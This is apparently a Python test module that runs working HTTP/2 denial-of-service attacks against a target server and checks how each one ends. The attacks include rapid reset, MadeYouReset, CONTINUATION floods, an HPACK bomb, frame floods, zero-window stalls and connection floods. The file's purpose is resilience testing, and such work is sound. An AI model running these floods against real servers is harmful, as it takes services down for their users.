"""Attacks on the clients' port, one function each: it makes what attacks until a moment, and tells how that ended."""

import collections
import functools
import os
import random
import struct
import time

from h2_peer import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Cut,
    Peer,
    block,
    encoded,
    frame,
    message,
)
from hostile import GOES_ON, HELD_BACK, WAITS, Attack

AGENT = "target"
HOLD, FLOOD = "/hostile.Test/Hold", "/hostile.Test/Flood"

CALM = "ENHANCE_YOUR_CALM"
CLOSED = "closed"

# Streams of one connection, as docs/limits.md has it, and connections of one client.
STREAMS, CONNECTIONS = 1024, 1024
LARGEST_WINDOW = (1 << 31) - 1
# MiB that calls which stand still may hold: what the suite's hub allows a link, what it always grants, and the 64 KiB of
# each of STREAMS responses that wait for their client, twice for the allocator's sake.
STALLED = 64 + 16 + 2 * STREAMS // 16
GARBAGE_ENDS = (
    CLOSED,
    CALM,
    "NO_ERROR",
    "PROTOCOL_ERROR",
    "FRAME_SIZE_ERROR",
    "FLOW_CONTROL_ERROR",
    "COMPRESSION_ERROR",
    "STREAM_CLOSED",
)
CANCELLED = CANCEL.to_bytes(4, "big")
BATCH = 200
# Seconds that a refusal may take, where there is nothing else to do.
REFUSAL = 10


def repeated(once):
    """Again and again, with a new connection each time."""

    @functools.wraps(once)
    def attack(target):
        def run(until):
            ends = collections.Counter()
            while time.monotonic() < until:
                try:
                    ends[once(target, until)] += 1
                except Cut as cut:
                    ends[str(cut)] += 1
            return ends

        return run

    return attack


def busy(_target):
    """No attack: a process that works as hard as one."""

    def run(until):
        while time.monotonic() < until:
            os.urandom(1 << 16)
        return {"works": 1}

    return run


def keep_sending(peer, batch, until, read=True):
    """Sends what `batch()` makes, for as long as it is taken."""
    while peer.send(batch(), until, read):
        if time.monotonic() > until:
            return GOES_ON
    return HELD_BACK


@repeated
def rapid_reset(target, until):
    """Calls that are given up in the breath that makes them (CVE-2023-44487)."""
    head = block(HOLD, AGENT)
    with Peer(target) as peer:

        def batch():
            streams = [peer.stream() for _ in range(BATCH)]
            calls = (frame(HEADERS, END_HEADERS, one, head) + frame(RST_STREAM, 0, one, CANCELLED) for one in streams)
            return b"".join(calls)

        return keep_sending(peer, batch, until)


@repeated
def made_you_reset(target, until):
    """Calls with a frame behind them that has the hub reset them (CVE-2025-8671)."""
    head, overflow = block(HOLD, AGENT), LARGEST_WINDOW.to_bytes(4, "big")
    with Peer(target) as peer:

        def batch():
            streams = [peer.stream() for _ in range(BATCH)]
            calls = (frame(HEADERS, END_HEADERS, one, head) + frame(WINDOW_UPDATE, 0, one, overflow) for one in streams)
            return b"".join(calls)

        return keep_sending(peer, batch, until)


@repeated
def continuations(target, until):
    """A head that never ends (CVE-2024-27316)."""
    head = block(HOLD, AGENT)
    with Peer(target) as peer:
        peer.send(frame(HEADERS, 0, peer.stream(), head), until)
        # Literal without indexing (RFC 7541 §6.2.2).
        more = frame(CONTINUATION, 0, 1, b"\x00\x01x\x64" + b"y" * 100) * BATCH
        return keep_sending(peer, lambda: more, until)


@repeated
def empty_continuations(target, until):
    """A head that never ends, in frames without anything in them."""
    with Peer(target) as peer:
        peer.send(frame(HEADERS, 0, peer.stream(), block(HOLD, AGENT)), until)
        return keep_sending(peer, lambda: frame(CONTINUATION, 0, 1) * BATCH, until)


@repeated
def hpack_bomb(target, until):
    """A head that is 16 KB and means 60 MB: one field of the dynamic table, named thousands of times."""
    value = b"v" * 3900
    # Literal with incremental indexing (RFC 7541 §6.2.1), and then its index, the first of the dynamic table.
    entry = b"\x40\x01x\x7f" + varint(len(value) - 127) + value
    with Peer(target) as peer:
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, peer.stream(), block(HOLD, AGENT) + entry), until)
        bomb = block(HOLD, AGENT) + b"\xbe" * 16_000
        return keep_sending(peer, lambda: frame(HEADERS, END_HEADERS | END_STREAM, peer.stream(), bomb), until)


@repeated
def large_heads(target, until):
    """Heads of 200 KiB, which is above the hub's limit and below that of its HTTP/2."""
    large = block(HOLD, AGENT, *((f"x-{index}", "y" * 4000) for index in range(50)))
    pieces = [large[at : at + 16_000] for at in range(0, len(large), 16_000)]
    with Peer(target) as peer:

        def batch():
            one = peer.stream()
            first = frame(HEADERS, END_STREAM, one, pieces[0])
            middle = (frame(CONTINUATION, 0, one, piece) for piece in pieces[1:-1])
            return first + b"".join(middle) + frame(CONTINUATION, END_HEADERS, one, pieces[-1])

        return keep_sending(peer, batch, until)


def frames_without_end(made, settings=(), read=True):
    """The same frame again and again; `read` says whether what comes back is read."""

    @repeated
    def attack(target, until):
        with Peer(target, settings) as peer:
            return keep_sending(peer, lambda: made * BATCH, until, read)

    return attack


settings_flood = frames_without_end(frame(SETTINGS, 0, 0, encoded([(INITIAL_WINDOW_SIZE, 65_535)])))
settings_unread = frames_without_end(frame(SETTINGS, 0, 0, encoded([(INITIAL_WINDOW_SIZE, 65_535)])), read=False)
ping_flood = frames_without_end(frame(PING, 0, 0, b"flooding"))
ping_unread = frames_without_end(frame(PING, 0, 0, b"flooding"), read=False)
ping_answers = frames_without_end(frame(PING, ACK, 0, b"unasked!"))
priority_flood = frames_without_end(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 7)) + frame(0xFA, 0, 0, b"what?"))
window_overflow = frames_without_end(frame(WINDOW_UPDATE, 0, 0, LARGEST_WINDOW.to_bytes(4, "big")))


def body_without_end(payload):
    """A request's body in frames of this size, to a service that reads none of it."""

    @repeated
    def attack(target, until):
        with Peer(target) as peer:
            one = peer.stream()
            peer.send(frame(HEADERS, END_HEADERS, one, block(HOLD, AGENT)), until)
            return keep_sending(peer, lambda: frame(DATA, 0, one, payload) * BATCH, until)

    return attack


tiny_data = body_without_end(b"x")
empty_data = body_without_end(b"")


def endless_call(one):
    """A call whose answer has no end, and for which the connection's window is made the largest if it is the first."""
    more = frame(WINDOW_UPDATE, 0, 0, (LARGEST_WINDOW - 65_535).to_bytes(4, "big")) if one == 1 else b""
    head = frame(HEADERS, END_HEADERS, one, block(FLOOD, AGENT))
    return more + head + frame(DATA, END_STREAM, one, message(b""))


@repeated
def zero_windows(target, until):
    """As many calls as may be, whose answers may not be sent: the window for them is zero."""
    head, request = block(FLOOD, AGENT), message(b"")
    with Peer(target, [(INITIAL_WINDOW_SIZE, 0)]) as peer:
        for _ in range(STREAMS):
            one = peer.stream()
            peer.send(frame(HEADERS, END_HEADERS, one, head) + frame(DATA, END_STREAM, one, request), until)
        peer.wait(until)
        return WAITS


@repeated
def unread_answers(target, until):
    """A hundred calls with the largest windows, of whose answers nothing is read."""
    with Peer(target, [(INITIAL_WINDOW_SIZE, LARGEST_WINDOW)]) as peer:
        for _ in range(100):
            peer.send(endless_call(peer.stream()), until, read=False)
        time.sleep(max(0, until - time.monotonic()))
        return WAITS


@repeated
def stream_flood(target, until):
    """Twice as many calls as may be at a time, none of which ends."""
    head = block(HOLD, AGENT)
    with Peer(target) as peer:
        for _ in range(2 * STREAMS):
            peer.send(frame(HEADERS, END_HEADERS, peer.stream(), head), until)
        peer.wait(until, lambda: peer.resets["REFUSED_STREAM"] >= STREAMS)
        refused = peer.resets["REFUSED_STREAM"]
        peer.wait(until)
        return f"refuses {refused} of {2 * STREAMS}"


def connection_flood(target):
    """More connections than one client may have."""

    def run(until):
        ends, peers = collections.Counter(), []
        try:
            for _ in range(CONNECTIONS + 50):
                peers.append(Peer(target))
                peers[-1].send(b"", time.monotonic() + REFUSAL)
            for peer in peers[CONNECTIONS:]:
                try:
                    peer.wait(time.monotonic() + REFUSAL)
                    ends[WAITS] += 1
                except Cut as cut:
                    ends[cut_short(cut)] += 1
            for peer in peers[:CONNECTIONS]:
                peer.wait(time.monotonic())
        finally:
            for peer in peers:
                peer.socket.close()
        return ends

    return run


def cut_short(cut):
    """How a connection ended, without what is said about it."""
    return str(cut).partition(" (")[0]


def garbage(target):
    """Random bytes, and random frames behind a good preface; with a seed, so that it can be done again."""
    seed = random.randrange(1 << 32)
    print(f"    the seed of the garbage is {seed}")
    source = random.Random(seed)

    def run(until):
        ends = collections.Counter()
        while time.monotonic() < until:
            try:
                with Peer(target, preface=source.choice([b"", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"])) as peer:
                    for _ in range(source.randrange(1, 50)):
                        if source.random() < 0.1:
                            junk = source.randbytes(source.randrange(1, 2000))
                        else:
                            payload = source.randbytes(source.randrange(64))
                            kind, flags, stream = source.randrange(12), source.randrange(256), source.randrange(8)
                            junk = frame(kind, flags, stream, payload)
                        peer.send(junk, until)
                    peer.wait(min(until, time.monotonic() + 0.01))
                    ends[WAITS] += 1
            except Cut as cut:
                ends[cut_short(cut)] += 1
        return ends

    return run


def varint(number):
    """The rest of an integer, behind its prefix (RFC 7541 §5.1)."""
    out = bytearray()
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    return bytes([*out, number])


def all_of(target):
    """Every attack, what bounds it, and how it is ended."""
    metadata, callless = "metadata of a request", "frames that carry no call"
    unread, open_calls = "answers to frames that wait for the client", "calls at once on a client's connection"
    return [
        Attack("(a busy process)", "nothing", busy(target), ("works",)),
        Attack("rapid reset", "calls that a client gives up", rapid_reset(target), (CALM, CLOSED)),
        Attack("MadeYouReset", "calls of a connection that are reset for a mistake", made_you_reset(target), (CALM, CLOSED)),
        Attack("CONTINUATION flood", metadata, continuations(target), (CALM,)),
        Attack("CONTINUATION flood, empty frames", metadata, empty_continuations(target), (CALM,)),
        Attack("HPACK bomb", metadata, hpack_bomb(target), (CALM,)),
        Attack("heads of 200 KiB", metadata, large_heads(target), (GOES_ON, HELD_BACK)),
        Attack("SETTINGS flood", callless, settings_flood(target), (CLOSED,)),
        Attack("SETTINGS flood, answers unread", unread, settings_unread(target), (CLOSED, HELD_BACK)),
        Attack("PING flood", callless, ping_flood(target), (CLOSED,)),
        Attack("PING flood, answers unread", unread, ping_unread(target), (CLOSED, HELD_BACK)),
        Attack("answers to no PING", callless, ping_answers(target), (CLOSED,)),
        Attack("PRIORITY and unknown frames", callless, priority_flood(target), (CLOSED,)),
        Attack("window overflow", "HTTP/2", window_overflow(target), ("FLOW_CONTROL_ERROR",)),
        Attack("DATA frames of 1 byte", "small DATA frames that wait", tiny_data(target), (CALM, HELD_BACK)),
        Attack("DATA frames of 0 bytes", "empty DATA frames", empty_data(target), (CALM,)),
        Attack("zero windows", open_calls, zero_windows(target), (WAITS,), memory=STALLED),
        Attack("answers unread", "bytes of one response that wait", unread_answers(target), (WAITS,), memory=STALLED),
        Attack("stream flood", open_calls, stream_flood(target), (f"refuses {STREAMS} of {2 * STREAMS}",)),
        Attack("connection flood", "connections of one client", connection_flood(target), (CALM,)),
        Attack("garbage", "HTTP/2", garbage(target), GARBAGE_ENDS),
    ]
